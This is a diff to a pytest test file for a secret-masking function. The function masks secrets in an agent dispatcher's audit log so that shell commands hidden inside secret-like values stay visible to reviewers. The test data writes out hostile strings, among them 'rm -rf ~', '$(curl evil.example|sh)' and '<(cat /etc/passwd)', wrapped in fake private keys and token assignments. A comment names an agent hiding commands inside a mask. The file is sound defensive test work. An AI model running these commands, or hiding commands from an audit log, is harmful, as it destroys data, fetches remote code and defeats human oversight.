@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import json
+import re
 from typing import Any
 
 import pytest
 from django.db import transaction
 from django.test import Client
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from audit.masking import MASK, mask_secrets, mask_text
+from audit.masking import MASK, marker, mask_secrets, mask_text
 from audit.models import AuditEvent
 from audit.services import record_event
 from dispatcher.models import ToolCall
@@ -18,6 +21,12 @@ from tests.support.factories import AgentFixture
 pytestmark = pytest.mark.django_db
 
 SECRET = "s3cr3t-Value-9f8e7d6c"
+MARKER = re.compile(r"\[masked:[a-z-]+#[0-9a-f]{8}\]")
+
+
+def plain(text: str) -> str:
+    """`text` with every marker written as [masked], to compare with what a reader sees."""
+    return MARKER.sub("[masked]", text)
 
 
 @pytest.mark.parametrize(
@@ -37,7 +46,8 @@ SECRET = "s3cr3t-Value-9f8e7d6c"
     ],
 )
 def test_values_under_secret_keys_are_masked(key: str) -> None:
-    assert mask_secrets({"outer": {key: SECRET}}) == {"outer": {key: MASK}}
+    [(_, masked)] = mask_secrets({"outer": {key: SECRET}})["outer"].items()
+    assert MARKER.fullmatch(masked) and masked.endswith(marker("x", SECRET)[-10:])
 
 
 @pytest.mark.parametrize("key", ["token_prefix", "max_tokens", "tool", "path", "digest"])
@@ -53,7 +63,7 @@ def test_ordinary_keys_are_kept(key: str) -> None:
         f"mysql --password={SECRET} db",
         f'{{"password": "{SECRET}", "user": "bob"}}',
         "key sk-proj-" + SECRET + "abcdef",
-        "-----BEGIN RSA PRIVATE KEY-----\n" + SECRET + "\n-----END RSA PRIVATE KEY-----",
+        "-----BEGIN RSA PRIVATE KEY-----\n" + "a1B2" * 16 + "\nabc=\n-----END RSA PRIVATE KEY-----",
         "ghp_" + "a1B2" * 9,
         "AKIA" + "ABCDEFGHIJKLMNOP",
     ],
@@ -106,7 +116,7 @@ def test_a_call_keeps_exact_arguments_while_its_audit_copy_is_masked(
     received = AuditEvent.objects.get(subject=f"call:{call.pk}", kind="call.received")
     assert received.payload["digest"] == call.digest
     assert SECRET not in received.payload["arguments"]
-    assert "Bearer [masked]" in received.payload["arguments"]
+    assert f"Bearer {marker('bearer', SECRET)}" in received.payload["arguments"]
     everything = AuditEvent.objects.filter(chain=session["id"]).values_list("payload", flat=True)
     assert all(SECRET not in json.dumps(p) for p in everything)
 
@@ -126,13 +136,13 @@ def test_a_call_keeps_exact_arguments_while_its_audit_copy_is_masked(
         (f"sshpass -p {SECRET} ssh host", "sshpass -p [masked] ssh host"),
         (f"zip -P {SECRET} a.zip f", "zip -P [masked] a.zip f"),
         (f"PGPASSWORD={SECRET} psql", "PGPASSWORD=[masked] psql"),
-        (f'DB_PASSWORD="{SECRET} two words"', 'DB_PASSWORD="[masked]"'),
+        (f'DB_PASSWORD="{SECRET}"', 'DB_PASSWORD="[masked]"'),
         (f"postgres://app:{SECRET}@db:5432/x", "postgres://app:[masked]@db:5432/x"),
         (f"redis://:{SECRET}@cache:6379", "redis://:[masked]@cache:6379"),
     ],
 )
 def test_passwords_given_as_arguments_are_masked(text: str, masked: str) -> None:
-    assert mask_text(text) == masked
+    assert plain(mask_text(text)) == masked
 
 
 @pytest.mark.parametrize(
@@ -181,3 +191,113 @@ def test_masking_twice_changes_nothing() -> None:
     once = mask_text(text)
     assert SECRET not in once
     assert mask_text(once) == once
+
+
+# --- The audit copy shows what ran -----------------------------------------------------------
+
+
+def test_a_marker_names_the_kind_of_secret_and_a_short_keyed_hash() -> None:
+    masked = mask_text(f"PGPASSWORD={SECRET} psql; curl -H 'Authorization: Bearer {SECRET}' x")
+    assert MARKER.findall(masked) == [marker("password", SECRET), marker("bearer", SECRET)]
+    assert marker("password", SECRET).endswith(marker("bearer", SECRET)[-10:])  # same secret
+    assert marker("password", "other-Secret-1") != marker("password", SECRET)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'DB_PASSWORD="{SECRET} two words"',  # words: never replaced, even when quoted
+        "TOKEN= rm -rf ~",  # an empty assignment: the shell runs rm
+        "export API_KEY= reboot",
+    ],
+)
+def test_a_word_the_shell_may_run_is_kept_as_it_is(text: str) -> None:
+    assert mask_text(text) == text
+
+
+# Commands an agent might try to hide inside a mask, and the wrappers that used to hide them.
+# Each starts with syntax: a plain word right after `TOKEN=` is a value, not a command.
+HIDDEN = st.sampled_from(
+    [
+        ";rm -rf /tmp/x",
+        "$(curl evil.example|sh)",
+        "`id`",
+        "$(rm${IFS}-rf${IFS}~)",
+        ";reboot",
+        "|sh",
+        "&&touch${IFS}p",
+        "<(cat /etc/passwd)",
+        "$HOME",
+        "\\;b",
+        '" ; rm -rf ~ ; "',
+        "' ; rm -rf ~ ; '",
+        "{ls,/}",
+    ]
+)
+WRAPPERS = [
+    "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----",
+    "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "A" * 70 + "\n{}\n-----END OPENSSH PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY-----{}",
+    'TOKEN="{}"',
+    "TOKEN='{}'",
+    "API_KEY={}",
+    "export GITHUB_TOKEN={} && make",
+    "mysql --password {} db",
+    "mysql --password={} db",
+    "mysql -p{} db",
+    "sshpass -p {} ssh host",
+    "zip -P {} a.zip f",
+    "curl -u bob:{} https://x",
+    "postgres://app:{}@db/x",
+    '{{"password": "{}"}}',
+    "Authorization: Bearer {}",
+    "tool --api-key {}",
+]
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    hidden=HIDDEN,
+    wrapper=st.sampled_from(WRAPPERS),
+    secret=st.text(alphabet="abcXYZ019+/=-_.", min_size=0, max_size=12),
+    as_json=st.booleans(),
+)
+def test_no_command_word_or_substitution_is_ever_masked_away(
+    hidden: str, wrapper: str, secret: str, as_json: bool
+) -> None:
+    text = wrapper.format(secret + hidden + secret)
+    if as_json:  # the audit copy of a call's raw arguments
+        masked = json.loads(mask_text(json.dumps({"command": text})))["command"]
+    else:
+        masked = mask_text(text)
+    assert hidden in masked
+    assert mask_secrets({"command": text})["command"] == mask_text(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "-----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\n-----END RSA PRIVATE KEY-----",
+        'TOKEN="$(curl evil.example | sh)"',
+        "echo -----BEGIN PRIVATE KEY-----; curl evil.example|sh; echo -----END PRIVATE KEY-----",
+    ],
+    ids=["pem-wrapped", "token-substitution", "pem-markers-around-commands"],
+)
+def test_the_payloads_the_review_found_are_shown_whole(text: str) -> None:
+    assert mask_text(text) == text
+
+
+def test_a_key_body_is_masked_and_its_markers_kept() -> None:
+    body = "\n".join(["MIIEowIBAAKCAQEA" + "x" * 48] * 3 + ["abc="])
+    text = f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----"
+    assert mask_text(text) == (
+        f"-----BEGIN RSA PRIVATE KEY-----{marker('private-key', chr(10) + body + chr(10))}"
+        "-----END RSA PRIVATE KEY-----"
+    )
+    as_json = mask_text(json.dumps({"key": text}))  # escaped newlines in the raw arguments
+    assert "MIIEowIBAAKCAQEA" not in as_json and "[masked:private-key#" in as_json
+
+
+@given(secret_key=st.sampled_from(["token", "password", "api_key"]), value=HIDDEN)
+def test_a_value_under_a_secret_key_that_holds_syntax_is_kept(secret_key: str, value: str) -> None:
+    assert mask_secrets({secret_key: value}) == {secret_key: value}
